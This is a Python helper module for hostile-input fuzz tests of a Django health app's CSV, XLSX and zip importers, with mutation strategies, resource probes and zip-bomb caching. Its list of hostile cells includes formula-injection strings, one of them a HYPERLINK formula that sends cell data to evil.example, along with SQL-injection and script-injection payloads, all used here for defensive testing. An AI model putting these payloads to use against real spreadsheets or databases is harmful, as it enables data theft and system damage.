"""Shared parts of the hostile-input tests: row counts of every table, the "rejected or imported, never anything
else" check, hypothesis strategies that break files, and a resource probe run in a fresh process."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tempfile
import textwrap
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from django.apps import apps
from django.db import connection
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

ROOT = Path(__file__).resolve().parents[2]
# HEALTHLINKS_FUZZ_SCALE=10 runs ten times the examples (a deeper search by hand; the suite keeps the default).
SCALE = float(os.environ.get("HEALTHLINKS_FUZZ_SCALE", "1"))


def fuzz(examples: int) -> settings:
    """Bounded hypothesis settings: no deadline (the machine is shared), fixtures built once per test."""
    return settings(
        max_examples=max(1, int(examples * SCALE)),
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# --- every table's row count ----------------------------------------------------------------------------------


def table_counts() -> dict[str, int]:
    """Row count of every table of every installed model (history and many-to-many tables included), in one query."""
    tables = sorted(
        {m._meta.db_table for m in apps.get_models(include_auto_created=True) if m._meta.managed and not m._meta.proxy}
    )
    quote = connection.ops.quote_name
    sql = "SELECT " + ", ".join(f"(SELECT COUNT(*) FROM {quote(t)})" for t in tables)
    with connection.cursor() as cursor:
        cursor.execute(sql)
        row = cursor.fetchone()
    return dict(zip(tables, row, strict=True))


def changed_tables(before: dict[str, int], after: dict[str, int]) -> dict[str, tuple[int, int]]:
    return {t: (before[t], after[t]) for t in before if before[t] != after.get(t)}


def rejected_or_imported(
    call: Callable[[], Any], rejection: type[BaseException] | tuple[type[BaseException], ...]
) -> tuple[str, Any]:
    """Run an import. It may succeed, or raise its documented rejection with a message and leave every table as it
    was; any other exception is not caught, so the test fails with it. Returns ("imported", result) or
    ("rejected", the exception)."""
    before = table_counts()
    try:
        result = call()
    except rejection as exc:
        message = str(exc).strip()
        assert message, f"{type(exc).__name__} without a message"
        after = table_counts()
        assert after == before, f"rejected ({message[:200]}) but rows were written: {changed_tables(before, after)}"
        return "rejected", exc
    return "imported", result


# --- hostile values -------------------------------------------------------------------------------------------

HOSTILE_CELLS = [
    "",
    " ",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "\ufeffV-001",
    "Z\u0351\u0360\u0322a\u0358\u0317l\u0335g\u035co",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🏥",
    "١٢٣",
    "NaN",
    "nan",
    "Infinity",
    "-inf",
    "1e999999999",
    "-1e-999999999",
    "9" * 400,
    "1" + "0" * 30,
    "-1",
    "0x1F",
    "1_000",
    "1,5",
    "12.5.3",
    "0000-00-00",
    "2025-02-30",
    "9999-12-31",
    "0001-01-01",
    "2025-13-01T25:61:61",
    "yes;no;yes",
    "teaching;;;;;;",
    "'; DROP TABLE network_person; --",
    "<script>alert(1)</script>",
    "line\nbreak",
    "\r",
    '"',
    "x" * 300,
    "y" * 20_000,
]
odd_cell = st.one_of(st.sampled_from(HOSTILE_CELLS), st.text(max_size=40))
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252"]


@st.composite
def mutated_grid(draw: st.DrawFn, header: Sequence[str], rows: Sequence[Sequence[str]]) -> list[list[str]]:
    """A valid table broken in the ways people and tools break tables."""
    grid = [list(header), *[list(r) for r in rows]]
    for _ in range(draw(st.integers(0, 4))):
        op = draw(
            st.sampled_from(["cell", "cell", "cell", "shuffle", "drop", "dup", "case", "extra", "rowdup", "blank"])
        )
        width = max(len(r) for r in grid)
        if op == "cell":  # mostly a data cell: the header has its own checks
            r = (
                draw(st.integers(0, len(grid) - 1))
                if draw(st.integers(0, 4)) == 0 or len(grid) == 1
                else (draw(st.integers(1, len(grid) - 1)))
            )
            c = draw(st.integers(0, width - 1))
            while len(grid[r]) <= c:
                grid[r].append("")
            grid[r][c] = draw(odd_cell)
        elif op == "shuffle":
            order = draw(st.permutations(range(width)))
            grid = [[(r + [""] * width)[i] for i in order] for r in grid]
        elif op == "drop" and width > 1:
            c = draw(st.integers(0, width - 1))
            grid = [r[:c] + r[c + 1 :] for r in grid]
        elif op == "dup":
            c = draw(st.integers(0, width - 1))
            grid = [r + [(r + [""] * width)[c]] for r in grid]
        elif op == "case":
            grid[0] = [h.upper() if draw(st.booleans()) else f" {h} " for h in grid[0]]
        elif op == "extra":
            r = draw(st.integers(0, len(grid) - 1))
            grid[r] = grid[r] + [draw(odd_cell) for _ in range(draw(st.integers(1, 3)))]
        elif op == "rowdup" and len(grid) > 1:
            grid.append(list(grid[draw(st.integers(1, len(grid) - 1))]))
        elif op == "blank":
            grid.insert(draw(st.integers(1, len(grid))), [""] * width)
    return grid


def csv_bytes(grid: Sequence[Sequence[str]], encoding: str = "utf-8", delimiter: str = ",") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=delimiter).writerows(grid)
    return out.getvalue().encode(encoding, errors="surrogatepass" if encoding.startswith("utf") else "replace")


def xlsx_bytes(sheets: dict[str, Sequence[Sequence[Any]]]) -> bytes:
    """A workbook with these sheets (first one first). Characters XML cannot hold are dropped; a cell starting with
    '=' becomes a formula, as it would in Excel."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook()
    first = True
    for title, grid in sheets.items():
        sheet = book.active if first else book.create_sheet()
        assert sheet is not None
        sheet.title = title
        first = False
        for row in grid:
            sheet.append(
                [
                    ILLEGAL_CHARACTERS_RE.sub("", v.encode("utf-8", "replace").decode()) if isinstance(v, str) else v
                    for v in row
                ]
            )
    buffer = io.BytesIO()
    book.save(buffer)
    archive = zipfile.ZipFile(buffer)  # the same bytes every time: no save time in the properties or the zip
    members = {name: archive.read(name) for name in archive.namelist()}
    members["docProps/core.xml"] = re.sub(
        rb"(<dcterms:(created|modified)[^>]*>)[^<]*", rb"\g<1>2020-01-01T00:00:00Z", members["docProps/core.xml"]
    )
    return zip_bytes(members)


@st.composite
def encoded_table(draw: st.DrawFn, header: Sequence[str], rows: Sequence[Sequence[str]]) -> tuple[bytes, str]:
    """A mutated table as CSV (some encoding, ',' or ';') or XLSX; returns (bytes, file name)."""
    grid = draw(mutated_grid(header, rows))
    if draw(st.integers(0, 3)) == 0:
        return xlsx_bytes({"data": grid}), "table.xlsx"
    encoding = draw(st.sampled_from(ENCODINGS))
    return csv_bytes(grid, encoding, draw(st.sampled_from([",", ",", ";"]))), "table.csv"


# --- byte-level mutations -------------------------------------------------------------------------------------

JUNK = [b"\x00", b"\xff\xfe", b"\xef\xbb\xbf", b"<", b"]]>", b"&", b"&lol;", b"<!DOCTYPE x>", b'"', b"\r\n", b"{", b"}"]


@st.composite
def mutated_bytes(draw: st.DrawFn, data: bytes) -> bytes:
    """Byte flips, truncation, deletions, duplications and inserted junk, as corruption and fuzzers do."""
    out = bytearray(data)
    for _ in range(draw(st.integers(1, 6))):
        op = draw(st.sampled_from(["flip", "flip", "truncate", "delete", "insert", "dup", "junk"]))
        n = len(out)
        at = draw(st.integers(0, max(n - 1, 0)))
        if op == "flip" and n:
            out[at] ^= 1 << draw(st.integers(0, 7))
        elif op == "truncate":
            del out[at:]
        elif op == "delete":
            del out[at : at + draw(st.integers(1, 64))]
        elif op == "insert":
            out[at:at] = draw(st.binary(min_size=1, max_size=32))
        elif op == "dup":
            out[at:at] = out[at : at + draw(st.integers(1, 256))]
        elif op == "junk":
            out[at:at] = draw(st.sampled_from(JUNK))
    return bytes(out)


@st.composite
def mutated_zip(draw: st.DrawFn, data: bytes) -> bytes:
    """A zip archive (XLSX, QDPX) with one member's bytes broken but the archive itself intact, so the damage
    reaches the XML readers and not only the zip reader; sometimes the archive bytes are broken instead."""
    if draw(st.integers(0, 4)) == 0:
        return draw(mutated_bytes(data))
    source = zipfile.ZipFile(io.BytesIO(data))
    names = [i.filename for i in source.infolist() if not i.is_dir()]
    target = draw(st.sampled_from(names))
    members = {name: source.read(name) for name in names}
    members[target] = draw(mutated_bytes(members[target]))
    if draw(st.integers(0, 5)) == 0:
        del members[draw(st.sampled_from(names))]
    return zip_bytes(members)


def zip_bytes(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive of these members, the same bytes every time (fixed dates): hypothesis replays its examples and
    requires the data they are drawn from to stay the same."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), content, compress_type=method)
    return buffer.getvalue()


# --- time and memory of one import, in a fresh process --------------------------------------------------------

PROBE = """
import json, os, resource, sys, time
from pathlib import Path
if {django}:
    import django
    django.setup()
{setup}
def rss():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
def cpu():
    usage = resource.getrusage(resource.RUSAGE_SELF)
    return usage.ru_utime + usage.ru_stime
before = rss()
started, cpu_started = time.perf_counter(), cpu()
outcome = {{"error": None, "message": ""}}
try:
{call}
except BaseException as exc:
    outcome = {{"error": type(exc).__name__, "message": str(exc)[:2000]}}
outcome.update(
    seconds=time.perf_counter() - started, cpu_seconds=cpu() - cpu_started, rss_before=before, rss_after=rss()
)
print("PROBE " + json.dumps(outcome))
"""


def probe(setup: str, call: str, *, tmp: Path, timeout: float = 60, django: bool = True) -> dict[str, Any]:
    """Run `call` (Python, using what `setup` built) in a new interpreter and report the exception it raised (type
    and message), the wall and CPU seconds it took (CPU time does not grow when other work shares the machine) and
    its peak resident memory growth (resource.getrusage: ru_maxrss of a fresh process, so the peak belongs to this
    call and not to earlier tests). The database is an empty SQLite file: the calls probed must refuse the input
    before reading any table. `django=False` skips django.setup() for readers that need no model (faster)."""
    env = dict(os.environ)
    env["DJANGO_SETTINGS_MODULE"] = "healthlinks.settings"
    env["PYTHONPATH"] = os.pathsep.join([str(ROOT / "src"), str(ROOT), env.get("PYTHONPATH", "")])
    env["HEALTHLINKS_DATABASE_URL"] = f"sqlite:///{tmp / 'probe.sqlite3'}"
    env["HEALTHLINKS_VAR_DIR"] = str(tmp)
    code = PROBE.format(
        setup=textwrap.dedent(setup), call=textwrap.indent(textwrap.dedent(call), "    "), django=django
    )
    done = subprocess.run(  # noqa: S603 (our own interpreter and code)
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=timeout, env=env, cwd=ROOT
    )
    line = next((x for x in done.stdout.splitlines() if x.startswith("PROBE ")), None)
    assert line is not None, f"the probe died (exit {done.returncode}): {done.stderr[-3000:]}"
    outcome: dict[str, Any] = json.loads(line[len("PROBE ") :])
    outcome["rss_growth_mb"] = (outcome["rss_after"] - outcome["rss_before"]) / 1024 / 1024
    return outcome


def bounded(outcome: dict[str, Any], *, cpu_seconds: float = 10, megabytes: float = 300) -> bool:
    """Within the resource bounds: CPU time, a generous wall-clock time (a shared machine), peak memory growth."""
    return (
        outcome["cpu_seconds"] < cpu_seconds
        and outcome["seconds"] < 6 * cpu_seconds
        and outcome["rss_growth_mb"] < megabytes
    )


BOMBS = Path(tempfile.gettempdir()) / f"healthlinks-fuzz-bombs-{os.getuid()}"


def bomb_file(expression: str, **names: Any) -> Path:
    """The bytes of `expression` (a call of tests.fuzz.bombs, e.g. "xlsx_member_bomb(300)") in a file, built once
    and kept for later tests and runs (a 300 MB zip bomb takes seconds to deflate)."""
    from tests.fuzz import bombs

    BOMBS.mkdir(parents=True, exist_ok=True)
    source = Path(bombs.__file__).read_bytes()  # a changed builder builds anew
    key = source + expression.encode() + repr(sorted(names.items())).encode()
    path = BOMBS / (hashlib.sha256(key).hexdigest()[:20] + ".bin")
    if not path.exists():
        data = eval(expression, {"bombs": bombs, **names})  # noqa: S307 (our own test expressions)
        partial = path.with_suffix(f".{os.getpid()}.part")
        partial.write_bytes(data)
        partial.replace(path)
    return path


def load(expression: str, **names: Any) -> str:
    """Probe set-up code reading the bomb built by `expression` (which may use `names`)."""
    return f"data = Path({str(bomb_file(expression, **names))!r}).read_bytes()"
